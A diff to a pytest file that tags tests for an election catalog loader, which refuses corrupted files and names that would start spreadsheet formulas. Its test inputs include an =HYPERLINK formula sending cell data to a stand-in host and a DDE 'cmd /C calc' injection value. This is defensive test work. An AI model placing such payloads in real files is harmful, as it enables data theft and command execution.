@@ -216,6 +216,7 @@ CORRUPTIONS = [
 ]
 
 
+@pytest.mark.rapido
 @pytest.mark.parametrize("corrupt", CORRUPTIONS)
 def test_corrupted_catalog_is_refused_with_file_line_and_reason(
         copia: Path, corrupt: Callable[[Path], list[str]]) -> None:
@@ -229,6 +230,7 @@ def test_corrupted_catalog_is_refused_with_file_line_and_reason(
     assert "Traceback" not in message
 
 
+@pytest.mark.rapido
 def test_oversized_file_is_refused(copia: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     size = (copia / "casillas.csv").stat().st_size
     # Files read before casillas.csv stay under the limit.
@@ -245,6 +247,7 @@ def test_oversized_file_is_refused(copia: Path, monkeypatch: pytest.MonkeyPatch)
     load_catalog(copia)
 
 
+@pytest.mark.rapido
 def test_blank_lines_are_ignored(small: Catalog, copia: Path) -> None:
     path = copia / "casillas.csv"
     path.write_text(path.read_text(encoding="utf-8").replace("\n", "\n\n", 3) + "\n\n",
@@ -259,6 +262,7 @@ def test_blank_lines_are_ignored(small: Catalog, copia: Path) -> None:
 _HYPERLINK = '=HYPERLINK("https://example.invalid/?d="&A1,"Resultados")'
 
 
+@pytest.mark.rapido
 @pytest.mark.parametrize(("name", "column", "value", "shown"), [
     ("asociaciones.csv", "NOMBRE", _HYPERLINK, "«=»"),
     ("candidaturas.csv", "PROPIETARIA", "+1+cmd|' /C calc'!A0", "«+»"),
@@ -278,6 +282,7 @@ def test_a_name_that_would_start_a_formula_is_refused_naming_file_line_and_field
     assert "Quite ese carácter del inicio" in message
 
 
+@pytest.mark.rapido
 def test_a_catalogo_toml_name_that_would_start_a_formula_is_refused_with_its_line(
         copia: Path) -> None:
     path = copia / "catalogo.toml"
@@ -291,6 +296,7 @@ def test_a_catalogo_toml_name_that_would_start_a_formula_is_refused_with_its_lin
     assert "nombre" in str(info.value) and "empieza con «=»" in str(info.value)
 
 
+@pytest.mark.rapido
 def test_the_generated_catalog_has_no_name_that_needs_refusing(tmp_path: Path) -> None:
     """No real party, coalition or candidate name starts with -, =, + or @: the full
     synthetic CDMX catalog loads as it is."""
